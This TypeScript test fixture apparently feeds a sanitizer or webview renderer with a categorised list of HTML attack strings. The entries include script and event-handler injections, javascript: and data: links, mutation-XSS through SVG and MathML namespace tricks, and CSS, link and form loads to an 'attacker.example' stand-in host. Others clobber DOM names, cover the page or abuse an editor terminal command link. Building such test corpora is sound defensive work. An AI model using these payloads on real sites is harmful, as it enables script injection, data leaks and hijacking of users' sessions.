import { mime } from '../../src/mlops/payloads/mime.ts';
import { attacks, remote, script } from './attack.ts';

/** Elements and attributes that run code. */
const running = {
  'a script element': `<script>${script}</script>`,
  'a script of an address': `<script src="${remote}/x.js"></script>`,
  'a module script': `<script type="module">import '${remote}/x.mjs'; ${script}</script>`,
  'a script in capitals with a broken end': `<SCRIPT/x>${script}</SCRIPT foo>`,
  'a script that is put together of parts': `<scr<script>ipt>${script}</scr</script>ipt>`,
  'a script after a null character': `<scr\u0000ipt>${script}</script>`,
  'an error handler': `<img src=x onerror="${script}">`,
  'an error handler with a slash for a space': `<img/src=x/onerror=${script}>`,
  'an error handler with a form feed for a space': `<img\fsrc=x\fonerror=${script}>`,
  'an error handler behind a broken quote': `<img """><img src=x onerror="${script}">">`,
  'an error handler on an unknown element': `<blink onerror="${script}" src=x>x</blink><x onclick="${script}">x</x>`,
  'a load handler of the body': `<body onload="${script}"><p>x`,
  'a load handler of a frame set': `<frameset onload="${script}"></frameset>`,
  'a toggle handler': `<details open ontoggle="${script}"><summary>x</summary>y</details>`,
  'a focus handler that gets the focus by itself': `<p tabindex=0 autofocus onfocus="${script}">x</p>`,
  'a focus handler of an input': `<input autofocus onfocus="${script}">`,
  'an animation handler': `<style>@keyframes a{}</style><p style="animation-name:a" onanimationstart="${script}">x</p>`,
  'a transition handler': `<p style="transition:outline 1s" ontransitionend="${script}" id=x tabindex=1>x</p>`,
  'a pointer handler': `<p onpointerover="${script}" onmouseover="${script}" onwheel="${script}">x</p>`,
  'a marquee': `<marquee onstart="${script}" width=1 loop=1>x</marquee>`,
  'a media handler': `<video onloadstart="${script}"><source src=x onerror="${script}"></video><audio src onerror="${script}">`,
  'a popover handler': `<p popover id=p onbeforetoggle="${script}">x</p><button popovertarget=p>y</button>`,
  'a content-visibility handler': `<p oncontentvisibilityautostatechange="${script}" style="content-visibility:auto">x</p>`,
  'a link to a script': `<a href="javascript:${script}">x</a>`,
  'a link to a script with control characters': `<a href="\u0001java\tscr\nipt:${script}">x</a>`,
  'a link to a script in entities': `<a href="&#106;&#x61;vascript&colon;${script}">x</a>`,
  'a link to a script of another language': `<a href="vbscript:${script}">x</a>`,
  'a link to a page of its own': `<a href="data:text/html,<script>${script}</script>">x</a>`,
  'a link to a command of the editor': '<a href="command:workbench.action.terminal.sendSequence">x</a>',
  'a link to a file': '<a href="file://attacker.example/share/x">x</a><a href="vscode://x.y/z">y</a>',
  'an area of a map': `<img usemap=#m src=x><map name=m><area shape=default href="javascript:${script}"></map>`,
  'a frame with a script for an address': `<iframe src="javascript:parent.${script}"></iframe>`,
  'a frame with its page in an attribute': `<iframe srcdoc="<script>parent.${script}</script>"></iframe>`,
  'an object': `<object data="data:text/html,<script>parent.${script}</script>"></object>`,
  'an embedded page': `<embed src="data:text/html,<script>parent.${script}</script>">`,
  'a button that sends a form to a script': `<form action="javascript:${script}"><button>x</button></form>`,
  'a button with an address of its own': `<form id=f></form><button form=f formaction="javascript:${script}">x</button>`,
  'an image button': `<input type=image src=x onerror="${script}" formaction="javascript:${script}">`,
  'a template with a script': `<template><script>${script}</script><img src=x onerror=${script}></template>`,
  'a declarative shadow root': `<div><template shadowrootmode=open><img src=x onerror=${script}></template></div>`,
  'a customized element': `<p is="x-y" onclick="${script}">x</p><x-y><script>${script}</script></x-y>`,
  'an XML island': `<xml id=x><script>${script}</script></xml><?xml-stylesheet href="javascript:${script}"?>`,
  'a portal and a fenced frame': `<portal src="${remote}/"></portal><fencedframe src="${remote}/"></fencedframe>`,
};

/** Markup that the parser turns into another when it is written out and read again, or that changes namespaces. */
const mutating = {
  'a script in a title in a foreign element': `<svg></p><title><style><img src=x onerror=${script}></style></title></svg>`,
  'a style in MathML': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${script}&gt;">`,
  'a form in a form': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${script}></style></mglyph></form>`,
  'annotations in MathML': `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${script}"></style></annotation-xml></math>`,
  'a foreign object': `<svg><foreignObject><iframe srcdoc="<script>parent.${script}</script>"></iframe></foreignObject></svg>`,
  'a noscript': `<noscript><p title="</noscript><img src=x onerror=${script}>"></noscript>`,
  'a textarea': `<textarea><img title="</textarea><img src=x onerror=${script}>"></textarea>`,
  'an xmp': `<xmp><p title="</xmp><img src=x onerror=${script}>"></xmp>`,
  'a noembed and a plaintext': `<noembed><p title="</noembed><img src=x onerror=${script}>"></noembed><plaintext><script>${script}`,
  'a comment that ends early': `<!--><img src=x onerror=${script}>--><!-- --!><img src=x onerror=${script}> -->`,
  'a CDATA section': `<svg><![CDATA[><img src=x onerror=${script}>]]></svg>`,
  'a select': `<select><template><style></select><img src=x onerror=${script}></style></template></select>`,
  'deep nesting': `${'<div>'.repeat(600)}<table><svg><style><img src=x onerror=${script}>`,
  'deeply nested formatting': `${'<b><i><u>'.repeat(300)}<math><mi><style><img src=x onerror=${script}>`,
  'a conditional comment': `<!--[if true]><script>${script}</script><![endif]-->x`,
  'an entity in a style': `<svg><style>&lt;img src=x onerror=${script}&gt;</style></svg>`,
};

/** What would be asked of another machine. */
const loading = {
  'a picture': `<img src="${remote}/1.png">`,
  'a picture without a scheme': `<img src="//attacker.example/2.png">`,
  'a picture of many sources': `<img srcset="${remote}/3.png 1x, ${remote}/4.png 2x"><picture><source srcset="${remote}/5.png"><img src=x></picture>`,
  'a picture that loads late': `<img loading=lazy src="${remote}/6.png"><img lowsrc="${remote}/7.png" dynsrc="${remote}/8.png">`,
  media: `<video poster="${remote}/9.png" src="${remote}/9.mp4" autoplay></video><audio src="${remote}/9.mp3" autoplay></audio><track src="${remote}/9.vtt">`,
  'a background attribute': `<table background="${remote}/10.png"><td background="${remote}/11.png">x</table><body background="${remote}/12.png">`,
  'a style attribute': `<p style="background: url(${remote}/13.png)">x</p>`,
  'a style attribute with escapes': `<p style="background-image: u\\72l(${remote}/14.png); list-style: \\75 rl('${remote}/15.png')">x</p>`,
  'a style attribute with an image set': `<p style="background: image-set('${remote}/16.png' 1x); background: -webkit-image-set(url(${remote}/17.png) 1x)">x</p>`,
  'a style attribute with a variable': `<p style="--a: url(${remote}/18.png); background: var(--a)">x</p>`,
  'a variable with a fallback': `<p style="background: var(--none, url(${remote}/19.png))">x</p>`,
  'content, a border and a mask': `<p style="content: url(${remote}/20.png); border-image: url(${remote}/21.png) 1; mask: url(${remote}/22.svg#m)">x</p>`,
  'a cursor and a filter': `<p style="cursor: url(${remote}/23.cur), auto; filter: url(${remote}/24.svg#f); clip-path: url(${remote}/25.svg#c)">x</p>`,
  'a cross-fade': `<p style="background: -webkit-cross-fade(url(${remote}/26.png), url(${remote}/27.png), 50%)">x</p>`,
  'an imported sheet': `<style>@import url(${remote}/28.css); @import '${remote}/29.css';</style><p>x`,
  'a sheet with a background': `<style>p { background: url(${remote}/30.png) } p::before { content: url(${remote}/31.png) }</style><p>x`,
  'a sheet with a font': `<style>@font-face { font-family: f; src: url(${remote}/32.woff2) } p { font-family: f }</style><p>x`,
  'a sheet that spies on attributes': `<style>p[title^=a] { background: url(${remote}/a) } @media all { p { background: url(${remote}/33) } } @supports (color: red) { p { background: url(${remote}/34) } } @layer x { p { background: url(${remote}/35) } }</style><p title=abc>x`,
  'nested rules': `<style>p { & { background: url(${remote}/36) } @media all { background: url(${remote}/37) } }</style><p>x`,
  keyframes: `<style>@keyframes k { from, to { background: url(${remote}/38) } } p { animation: k 1s infinite }</style><p>x`,
  'a registered property': `<style>@property --x { syntax: '<image>'; inherits: false; initial-value: url(${remote}/39) } p { background: var(--x) }</style><p>x`,
  'a namespace and a charset': `<style>@namespace url(${remote}/40); @charset "x"; p { background: url(${remote}/41) }</style><p>x`,
  'a sheet that breaks out': `<style></style><img src=x onerror=${script}><style>*{}</style>`,
  'links of the head': `<link rel=stylesheet href="${remote}/42.css"><link rel=preload as=image href="${remote}/43.png"><link rel=prefetch href="${remote}/44"><link rel=dns-prefetch href="//attacker.example"><link rel=icon href="${remote}/45.ico">`,
  'a refresh': `<meta http-equiv=refresh content="0; url=${remote}/46"><meta http-equiv="Set-Cookie" content="a=b">`,
  'a base': `<base href="${remote}/"><img src="47.png"><a href="x">y</a>`,
  frames: `<iframe src="${remote}/48"></iframe><frame src="${remote}/49"><object data="${remote}/50"></object><embed src="${remote}/51"><applet code="${remote}/52">`,
  'a form that sends itself': `<form action="${remote}/53" id=f><input name=a><input type=submit autofocus></form>`,
  'a link with a ping': `<a href="${remote}/54" ping="${remote}/55">x</a>`,
  'speculation rules and an import map': `<script type="speculationrules">{"prefetch":[{"urls":["${remote}/56"]}]}</script><script type="importmap">{"imports":{"x":"${remote}/57"}}</script>`,
  'an SVG image in HTML': `<svg><image href="${remote}/58.png" xlink:href="${remote}/59.png"/><use href="${remote}/60.svg#x"/></svg>`,
  'an SVG sheet and a filter in HTML': `<svg><style>@import '${remote}/61.css';</style><filter id=f><feImage href="${remote}/62.png"/></filter><rect filter="url(#f)" fill="url(${remote}/63.svg#p)" width=9 height=9 /></svg>`,
  'MathML links': `<math href="javascript:${script}"><mi xlink:href="${remote}/64">x</mi></math>`,
  'a picture whose content is a page': `<img src="data:text/html,<img src='${remote}/65'>">`,
  'a picture whose content loads': `<img src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><image href="${remote}/66.png"/></svg>`)}">`,
};

/** What would break the page around it. */
const disturbing = {
  'names of the document':
    '<img name=body><img name=querySelectorAll><form name=getElementById><input name=attributes></form><a id=documentElement>x</a>',
  'names of the page':
    '<a id=canary href="clobbered:x">x</a><form id=acquireVsCodeApi></form><img id=root><a id=root name=x>y</a>',
  'a form that hides its own properties': `<form onclick="${script}"><input name=attributes><input name=nodeName><input name=removeChild><input name=parentNode><img src=x onerror="${script}"></form>`,
  'a cover of the page':
    '<div style="position:fixed;inset:0;z-index:2147483647;background:red">x</div><dialog open>y</dialog>',
  'an element that leaves its frame':
    '<style>:host { position: fixed !important; inset: 0 } :host(div) ~ * { display: none }</style><p>x',
  'a document instead of a piece': `<!DOCTYPE html><html onclick="${script}"><head><title>x</title></head><body onclick="${script}"><p>y`,
};

export const htmlAttacks = attacks(mime.html, { ...running, ...mutating, ...loading, ...disturbing });
